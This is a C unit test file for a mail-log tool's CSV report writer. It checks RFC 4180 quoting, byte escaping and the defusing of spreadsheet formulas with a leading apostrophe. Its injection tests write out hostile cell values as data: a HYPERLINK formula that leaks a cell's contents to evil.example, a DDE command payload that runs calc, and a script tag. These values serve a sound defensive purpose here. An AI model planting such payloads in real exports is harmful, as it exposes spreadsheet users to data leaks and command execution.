/*
 * The CSV writer: RFC 4180 quoting, the apostrophe that defuses
 * spreadsheet formulas in log data, and the exact bytes of each table
 * for a tiny hand-built result (two quota_exceeded events for alice on
 * mx1 at 14:00, one auth_failure for bob on mx1 at 15:00). Expected
 * output is written out by hand from those rows; only the cause and code
 * meanings come from the tables, with their quoting decided here.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "mxtally/cause.h"
#include "mxtally/event.h"
#include "mxtally/report.h"
#include "../src/report/report_int.h"

#include "report_fixture.h"


static char *
csv(const struct result *r, const char *table)
{
	struct report_opts	 o = { .version = "0.1.0", .table = table };
	char			*buf = NULL;
	size_t			 len = 0;
	FILE			*f = open_memstream(&buf, &len);

	cr_assert_not_null(f);
	cr_assert_eq(report_csv(f, r, &o), 0);
	cr_assert_eq(fclose(f), 0);
	return buf;
}

static char *
field(const char *s, int from_log)
{
	char	*buf = NULL;
	size_t	 len = 0;
	FILE	*f = open_memstream(&buf, &len);

	cr_assert_not_null(f);
	rep_csv_field(f, s, from_log);
	cr_assert_eq(fclose(f), 0);
	return buf;
}

/* s as a CSV field when it holds no quote: quoted iff it has a comma. */
static const char *
plain_field(const char *s, char *buf, size_t len)
{
	cr_assert_null(strpbrk(s, "\"\r\n"), "test cannot inline: %s", s);
	snprintf(buf, len, strchr(s, ',') != NULL ? "\"%s\"" : "%s", s);
	return buf;
}

Test(report_csv, field_quoting, .timeout = 5)
{
	static const struct {
		const char	*in, *want;
	} cases[] = {
		{ "alice", "alice" },
		{ "", "" },
		{ "a,b", "\"a,b\"" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"" },
		{ "two\nlines", "\"two\nlines\"" },
		{ "cr\rhere", "\"cr\rhere\"" },
		{ "tab\there", "tab\there" },
		{ "J\xc3\xbcrgen \xe2\x82\xac", "J\xc3\xbcrgen \xe2\x82\xac" },
		{ "bad\xff" "byte", "bad\\xffbyte" },
		{ "bell\x07" "esc\x1b" "del\x7f", "bell\\x07esc\\x1bdel\\x7f" },
	};
	size_t	 i;
	char	*s;

	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		s = field(cases[i].in, 1);
		cr_assert_str_eq(s, cases[i].want, "case %zu", i);
		free(s);
	}
	s = field(NULL, 1);
	cr_assert_str_eq(s, "");
	free(s);
}

Test(report_csv, formula_injection, .timeout = 5)
{
	static const struct {
		const char	*in, *want;
	} cases[] = {
		{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		  "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"" },
		{ "=1+2", "'=1+2" },
		{ "+1", "'+1" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
		{ "\t=1", "'\t=1" },
		{ "\r=1", "\"'\r=1\"" },
		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
		{ "a=b", "a=b" },			/* only the first byte */
		{ "alice@example.net", "alice@example.net" },
	};
	size_t	 i;
	char	*s;

	for (i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		s = field(cases[i].in, 1);
		cr_assert_str_eq(s, cases[i].want, "case %zu", i);
		free(s);
	}
	/* our own texts are never prefixed */
	s = field("-ERR is what POP3 says", 0);
	cr_assert_str_eq(s, "-ERR is what POP3 says");
	free(s);
}

Test(report_csv, causes_exact, .timeout = 5)
{
	const struct cause_info	*q = cause_get(CAUSE_QUOTA_EXCEEDED);
	const struct cause_info	*a = cause_get(CAUSE_AUTH_FAILURE);
	struct result		 r = tiny_result();
	char			 want[2048], m1[512], m2[512], *got;

	snprintf(want, sizeof(want),
	    "cause,group,events,users,meaning\r\n"
	    "quota_exceeded,storage,2,1,%s\r\n"
	    "auth_failure,auth,1,1,%s\r\n",
	    plain_field(q->meaning, m1, sizeof(m1)),
	    plain_field(a->meaning, m2, sizeof(m2)));
	got = csv(&r, "causes");
	cr_assert_str_eq(got, want);
	free(got);
	got = csv(&r, NULL);			/* the default table */
	cr_assert_str_eq(got, want);
	free(got);
}

Test(report_csv, users_hosts_hours_exact, .timeout = 5)
{
	struct result	 r = tiny_result();
	char		*got;

	/* one column per cause present, in the result's cause order */
	got = csv(&r, "users");
	cr_assert_str_eq(got,
	    "user,events,quota_exceeded,auth_failure\r\n"
	    "alice,2,2,0\r\n"
	    "bob,1,0,1\r\n");
	free(got);
	got = csv(&r, "hosts");
	cr_assert_str_eq(got,
	    "host,events,quota_exceeded,auth_failure\r\n"
	    "mx1,3,2,1\r\n");
	free(got);
	got = csv(&r, "hours");
	cr_assert_str_eq(got,
	    "start,events,quota_exceeded,auth_failure\r\n"
	    "2026-11-21T14:00:00,2,2,0\r\n"
	    "2026-11-21T15:00:00,1,0,1\r\n");
	free(got);
}

Test(report_csv, codes_exact, .timeout = 5)
{
	struct result	 r = tiny_result();
	char		 basic[256], enh[256], both[600], m1[700], m2[512];
	char		 want[2048], *got;
	const char	*auth = code_meaning_resp("AUTH", 4);

	cr_assert_not_null(auth);
	code_meaning_basic(552, basic, sizeof(basic));
	code_meaning_enhanced(5, 2, 2, enh, sizeof(enh));
	snprintf(both, sizeof(both), "%s; %s", basic, enh);
	snprintf(want, sizeof(want),
	    "protocol,code,enhanced,response,cause,events,meaning\r\n"
	    "smtp,552,5.2.2,,quota_exceeded,2,%s\r\n"
	    "pop3,,,AUTH,auth_failure,1,%s\r\n",
	    plain_field(both, m1, sizeof(m1)),
	    plain_field(auth, m2, sizeof(m2)));
	got = csv(&r, "codes");
	cr_assert_str_eq(got, want);
	free(got);
}

Test(report_csv, hostile_names, .timeout = 5)
{
	static uint64_t by[CAUSE_MAX] = { [CAUSE_QUOTA_EXCEEDED] = 1 };
	static struct entity_row evil[] = {
		{ "=HYPERLINK(\"http://x/\",\"y\")", 0, 1, by },
		{ "a,b\r\nc", 0, 1, by },
		{ "<script>alert(1)</script>", 0, 1, by },
	};
	static struct entity_row evil_hours[] = { { NULL, T_NONE, 1, by } };
	static struct cause_row one[] = {
		{ CAUSE_QUOTA_EXCEEDED, 3, 3, NULL, 0 },
	};
	struct result	 r = tiny_result();
	char		*got;

	r.causes = one;
	r.ncauses = 1;
	r.users = evil;
	r.nusers_shown = 3;
	got = csv(&r, "users");
	cr_assert_str_eq(got,
	    "user,events,quota_exceeded\r\n"
	    "\"'=HYPERLINK(\"\"http://x/\"\",\"\"y\"\")\",1,1\r\n"
	    "\"a,b\r\nc\",1,1\r\n"
	    "<script>alert(1)</script>,1,1\r\n");
	free(got);
	/* an hour without a timestamp has an empty start */
	r.hours = evil_hours;
	r.nhours = 1;
	got = csv(&r, "hours");
	cr_assert_str_eq(got, "start,events,quota_exceeded\r\n,1,1\r\n");
	free(got);
}

Test(report_csv, empty_result, .timeout = 5)
{
	struct result	 r;
	char		*got;

	memset(&r, 0, sizeof(r));
	r.first = r.last = T_NONE;
	got = csv(&r, "users");
	cr_assert_str_eq(got, "user,events\r\n");
	free(got);
	got = csv(&r, "causes");
	cr_assert_str_eq(got, "cause,group,events,users,meaning\r\n");
	free(got);
}

Test(report_csv, tables, .timeout = 5)
{
	struct result		 r = tiny_result();
	struct report_opts	 o = { .table = "bogus" };
	FILE			*f = fopen("/dev/null", "w");

	cr_assert(report_csv_table("users"));
	cr_assert(report_csv_table("causes"));
	cr_assert(report_csv_table("codes"));
	cr_assert(report_csv_table("hosts"));
	cr_assert(report_csv_table("hours"));
	cr_assert_not(report_csv_table("bogus"));
	cr_assert_not(report_csv_table("Users"));
	cr_assert_not(report_csv_table(""));
	cr_assert_not_null(f);
	cr_assert_eq(report_csv(f, &r, &o), -1);
	fclose(f);
}

Test(report_csv, write_error, .timeout = 5)
{
	struct result		 r = tiny_result();
	struct report_opts	 o = { .table = "users" };
	FILE			*f = fopen("/dev/full", "w");

	if (f == NULL)
		cr_skip_test("no /dev/full");
	cr_assert_eq(report_csv(f, &r, &o), -1);
	fclose(f);
}
